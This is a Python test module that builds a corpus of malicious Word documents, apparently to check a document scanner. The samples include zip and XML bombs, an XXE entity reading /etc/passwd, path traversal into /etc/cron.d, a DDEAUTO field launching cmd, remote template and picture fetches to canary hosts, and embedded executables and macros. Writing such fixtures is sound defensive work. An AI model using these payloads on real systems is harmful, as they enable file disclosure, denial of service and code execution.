"""Evil Word documents."""

import io
import zipfile

from tests.referrals.corpus.good import Content, docx, parts, relations_xml, types_xml, word_xml, zipped

RELS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MEGABYTE = 1024 * 1024


def bomb() -> bytes:
    """200 MiB of one letter in 200 KiB."""
    return docx({"word/media/a.bmp": b"0" * (200 * MEGABYTE)})


def lying(content: bytes, size: int) -> bytes:
    """Its headers say another size than the part has."""
    whole = bytearray(docx({"word/media/a.bmp": content}))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = -1
        while (at := whole.find(sign, at + 1)) >= 0:
            if int.from_bytes(whole[at + place : at + place + 4], "little") == len(content):
                whole[at + place : at + place + 4] = size.to_bytes(4, "little")
    return bytes(whole)


def flagged(bit: int) -> bytes:
    """Every part says something of itself that it should not."""
    whole = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := whole.find(sign, at + 1)) >= 0:
            whole[at + place] |= bit
    return bytes(whole)


def renamed_inside() -> bytes:
    """The list says one name, the part itself another: programs that read the one see what others do not."""
    whole = bytearray(docx({"word/aaaa.xml": "<a/>"}))
    at = whole.find(b"word/aaaa.xml")
    whole[at : at + 13] = b"word/bbbb.exe"
    return bytes(whole)


def broken_packing() -> bytes:
    """A part that is packed in no known way, although it says so."""
    whole = bytearray(docx({"word/media/a.bmp": bytes(range(256)) * 9}))
    at = whole.index(b"word/media/a.bmp") + len(b"word/media/a.bmp")
    whole[at : at + 8] = b"\xff" * 8
    return bytes(whole)


def without_a_head() -> bytes:
    """A part whose own head is gone."""
    whole = docx()
    at = whole.index(b"PK\x03\x04", 4)
    return whole[:at] + b"PK\x00\x00" + whole[at + 4 :]


def overlapping() -> bytes:
    """Two names for the same bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, words in parts().items():
            archive.writestr(name, words)
        twin = zipfile.ZipInfo("word/twin.xml")
        first = archive.getinfo("word/styles.xml")
        for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type", "external_attr"):
            setattr(twin, field, getattr(first, field))
        archive.filelist.append(twin)
    return made.getvalue()


def linked() -> bytes:
    """A part that is a link to another file of the computer."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, words in parts().items():
            archive.writestr(name, words)
        link = zipfile.ZipInfo("word/link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def xml_bomb() -> str:
    """A thousand million laughs."""
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">{steps}]><w>&a9;</w>'


OUTSIDE_FILE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def related(kind: str, target: str, mode: str = "External") -> bytes:
    """A document that refers to something."""
    return docx({RELS: relations_xml((kind, target, mode))})


EVIL: dict[str, tuple[str, Content]] = {
    "macros": ("a.docx", docx({"word/vbaProject.bin": OLE})),
    "macros by their type": ("a.docx", docx({"[Content_Types].xml": types_xml(main=MACROS)})),
    "macros by a type beside": ("a.docx", docx({"[Content_Types].xml": types_xml("application/vnd.ms-office.vbaProject")})),
    "an ActiveX control": ("a.docx", docx({"word/activeX/activeX1.xml": "<a/>"})),
    "an embedded object": ("a.docx", docx({"word/embeddings/oleObject1.bin": OLE})),
    "an embedded program": ("a.docx", docx({"word/embeddings/setup.exe": b"MZ\x90"})),
    "a program among the pictures": ("a.docx", docx({"word/media/a.png": b"MZ\x90\x00"})),
    "an embedded document with macros": ("a.docx", docx({"word/embeddings/a.docx": docx({"word/vbaProject.bin": OLE})})),
    "an embedded packed folder": ("a.docx", docx({"word/embeddings/a.zip": zipped({"a": b"a"})})),
    "a template from elsewhere": ("a.docx", related("attachedTemplate", "https://canary.example/a.dotm")),
    "a picture from a shared folder": ("a.docx", related("image", "\\\\canary\\share\\a.png")),
    "a link to a program": ("a.docx", related("hyperlink", "file:///c:/windows/cmd.exe")),
    "a web page as a part": ("a.docx", related("aFChunk", "a.html", "")),
    "a field that starts a program": (
        "a.docx",
        docx({"word/document.xml": word_xml("<w:instrText>DD</w:instrText><w:instrText>EAUTO c:/cmd</w:instrText>")}),
    ),
    "a field that fetches": (
        "a.docx",
        docx({"word/document.xml": word_xml('<w:fldSimple w:instr="INCLUDEPICTURE http://canary"/>')}),
    ),
    "an xml bomb": ("a.docx", docx({"word/document.xml": xml_bomb()})),
    "an xml that reads a file": ("a.docx", docx({"word/document.xml": OUTSIDE_FILE})),
    "an xml 300 deep": ("a.docx", docx({"word/a.xml": "<a>" * 300 + "</a>" * 300})),
    "an xml that is none": ("a.docx", docx({"word/a.xml": "<a><b></a>"})),
    "an xml in no known letters": ("a.docx", docx({"word/a.xml": b'<?xml version="1.0" encoding="canary"?><a/>'})),
    "a bomb of 200 MiB": ("a.docx", bomb),
    "a bomb whose headers lie": ("a.docx", lambda: lying(b"0" * (8 * MEGABYTE), 10)),
    "a bomb of 2,001 parts": ("a.docx", lambda: docx({f"word/{number}.txt": b"" for number in range(2000)})),
    "parts that share their bytes": ("a.docx", overlapping()),
    "a part that climbs out": ("a.docx", docx({"../../etc/cron.d/canary": b"canary"})),
    "a part from the root": ("a.docx", docx({"/etc/cron.d/canary": b"canary"})),
    "a part on another drive": ("a.docx", docx({"c:/canary.txt": b"canary"})),
    "a part that is a link": ("a.docx", linked()),
    "a part under two names": ("a.docx", renamed_inside()),
    "a part twice in other letters": ("a.docx", docx({"word/STYLES.xml": "<a/>"})),
    "a password": ("a.docx", flagged(0x1)),
    "a password of the newer kind": ("a.docx", OLE + bytes(4096)),
    "packed in an unusual way": ("a.docx", zipped(parts(), zipfile.ZIP_LZMA)),
    "a packed folder and no document": ("a.docx", zipped({"a.txt": b"canary"})),
    "a spreadsheet by another name": ("a.docx", docx({"[Content_Types].xml": types_xml(main="application/x-sheet")})),
    "a part whose packing is broken": ("a.docx", broken_packing()),
    "a part without a head": ("a.docx", without_a_head()),
    "an embedded spreadsheet that is none": ("a.docx", docx({"word/embeddings/a.xlsx": zipped({"a": b"a"})})),
    "cut off": ("a.docx", docx()[:-300]),
    "a program before it": ("a.docx", b"MZ\x90\x00" + docx()),
    "a web page behind it": ("a.docx", docx() + b"<script>canary()</script>"),
    "a part that says it is larger": ("a.docx", lying(b"canary", 9)),
    "a part that says it is smaller": ("a.docx", lying(b"canary", 3)),
}
